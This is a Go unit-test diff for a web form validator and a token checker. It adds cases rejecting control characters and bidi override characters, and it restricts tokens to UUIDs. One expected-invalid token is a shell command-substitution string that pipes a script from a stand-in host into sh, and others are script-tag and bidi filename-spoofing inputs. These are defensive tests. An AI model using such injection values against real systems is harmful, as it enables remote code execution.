@@ -29,6 +29,10 @@ func TestValidate(t *testing.T) {
 			Form{Name: "A", Mail: "a@b.io", Comment: long(MaxCommentChars)}, "", ""},
 		{"comment may span lines", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"one\ntwo"}},
 			Form{Name: "A", Mail: "a@b.io", Comment: "one\ntwo"}, "", ""},
+		{"comment keeps tabs and a form's CRLF", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"a\tb\r\nc"}},
+			Form{Name: "A", Mail: "a@b.io", Comment: "a\tb\r\nc"}, "", ""},
+		{"right-to-left name with its marks", url.Values{"name": {"\u05d3\u05e0\u05d4 \u200fLee"}, "mail": {"a@b.io"}},
+			Form{Name: "\u05d3\u05e0\u05d4 \u200fLee", Mail: "a@b.io"}, "", ""},
 
 		{"name missing", url.Values{"mail": {"a@b.io"}}, Form{}, CodeFieldRequired, FieldName},
 		{"name blank", url.Values{"name": {"   "}, "mail": {"a@b.io"}}, Form{}, CodeFieldRequired, FieldName},
@@ -41,6 +45,15 @@ func TestValidate(t *testing.T) {
 		{"two addresses", url.Values{"name": {"A"}, "mail": {"a@b.io, c@d.io"}}, Form{}, CodeFieldInvalid, FieldMail},
 		{"mail without domain dot", url.Values{"name": {"A"}, "mail": {"ann@localhost"}}, Form{}, CodeFieldInvalid, FieldMail},
 		{"mail too long", url.Values{"name": {"A"}, "mail": {strings.Repeat("a", 250) + "@b.io"}}, Form{}, CodeFieldTooLong, FieldMail},
+		{"comment with NUL", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"a\x00b"}}, Form{}, CodeFieldInvalid, FieldComment},
+		{"comment with ESC", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"\x1b[2Jcleared"}}, Form{}, CodeFieldInvalid, FieldComment},
+		{"comment with a lone CR", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"a\rb"}}, Form{}, CodeFieldInvalid, FieldComment},
+		{"comment with DEL", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"a\x7fb"}}, Form{}, CodeFieldInvalid, FieldComment},
+		{"comment with C1 control", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"a\u009bb"}}, Form{}, CodeFieldInvalid, FieldComment},
+		{"comment with bidi override", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"safe \u202eexe.txt"}}, Form{}, CodeFieldInvalid, FieldComment},
+		{"comment with bidi isolate", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {"\u2066x\u2069"}}, Form{}, CodeFieldInvalid, FieldComment},
+		{"name with bidi override", url.Values{"name": {"Ann \u202egnp.exe"}, "mail": {"a@b.io"}}, Form{}, CodeFieldInvalid, FieldName},
+		{"mail with bidi override", url.Values{"name": {"A"}, "mail": {"\u202eann@example.com"}}, Form{}, CodeFieldInvalid, FieldMail},
 		{"comment too long", url.Values{"name": {"A"}, "mail": {"a@b.io"}, "comment": {long(MaxCommentChars + 1)}}, Form{}, CodeFieldTooLong, FieldComment},
 		{"name twice", url.Values{"name": {"A", "B"}, "mail": {"a@b.io"}}, Form{}, CodeFieldDuplicated, FieldName},
 		{"mail twice", url.Values{"name": {"A"}, "mail": {"a@b.io", "a@b.io"}}, Form{}, CodeFieldDuplicated, FieldMail},
@@ -107,13 +120,15 @@ func TestValidateFieldMatchesValidate(t *testing.T) {
 func TestValidToken(t *testing.T) {
 	for token, want := range map[string]bool{
 		"4520efa4-ee63-4a6d-a585-091dc338ee28": true,
-		"abc":                                  true,
+		"4520EFA4-EE63-4A6D-A585-091DC338EE28": true,
+		"abc":                                  false,
 		"":                                     false,
 		"has space":                            false,
-		"<script>":                             true, // printable; the UI escapes it
-		"tab\t":                                false,
-		"ü":                                    false,
-		strings.Repeat("a", MaxTokenBytes+1):   false,
+		"<script>":                             false,
+		"x'$(curl evil.example|sh)'":           false,
+		"4520efa4-ee63-4a6d-a585-091dc338ee2'": false,
+		"4520efa4-ee63-4a6d-a585-091dc338ee28 ": false,
+		"4520efa4ee634a6da585091dc338ee28":     false,
 	} {
 		if got := ValidToken(token); got != want {
 			t.Errorf("ValidToken(%q) = %v, want %v", token, got, want)
